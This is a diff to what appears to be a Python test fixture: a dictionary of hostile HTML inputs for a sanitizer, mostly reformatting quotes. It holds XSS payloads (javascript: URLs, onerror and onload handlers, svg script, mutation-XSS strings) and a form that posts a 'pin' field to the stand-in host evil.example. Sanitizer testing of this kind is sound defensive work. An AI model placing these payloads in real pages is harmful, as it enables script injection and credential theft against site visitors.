@@ -73,11 +73,11 @@ HOSTILE = {
     "embed": f'<embed src="javascript:{HIT}">',
     "applet": '<applet code="x.class">a</applet>',
     "frameset": f'<frameset><frame src="javascript:{HIT}"></frameset>',
-    "form": '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
+    "form": '<form action="https://evil.example/"><input name="pin"><button>Go</button></form>',
     "formaction": f'<button formaction="javascript:{HIT}">a</button>',
     "input with autofocus": f"<input autofocus onfocus={HIT}>",
     "select and textarea": "<select><option>a</option></select><textarea>b</textarea>",
-    "isindex": f'<isindex type=image src=1 onerror={HIT}>',
+    "isindex": f"<isindex type=image src=1 onerror={HIT}>",
     "video": f"<video><source onerror={HIT}></video>",
     "audio": f'<audio src=x onerror="{HIT}"></audio>',
     "svg": f"<svg onload={HIT}><script>{HIT}</script></svg>",
@@ -94,7 +94,7 @@ HOSTILE = {
     "plaintext": f"<plaintext><script>{HIT}</script>",
     "mutation through math and style": MXSS,
     "mutation through a paragraph in svg": (
-        f"<svg></p><style><a id=\"</style><img src=1 onerror={HIT}>\">"
+        f'<svg></p><style><a id="</style><img src=1 onerror={HIT}>">'
     ),
     "mutation through a form in math": (
         "<form><math><mtext></form><form><mglyph><style></math><img src onerror="
@@ -124,7 +124,7 @@ HOSTILE = {
     "escaped once": f"&lt;img src=x onerror={HIT}&gt;",
     "token in an attribute": '<a href="/x" title="[@zhao2022]">a</a>',
     "token in an address": '<a href="/x[@zhao2022]">a</a>',
-    "rename inside an attribute": f"<abbr title=\"<h1 onclick={HIT}><b>\">a</abbr>",
+    "rename inside an attribute": f'<abbr title="<h1 onclick={HIT}><b>">a</abbr>',
     "rename with a handler": f"<h1 onclick={HIT}>a</h1><b/onclick={HIT}>b</b>",
     "custom element": f"<x-evil onclick={HIT} is=script>a</x-evil>",
     "portal and popover": f"<p popover id=x>a</p><button popovertarget=x onbeforetoggle={HIT}>b",
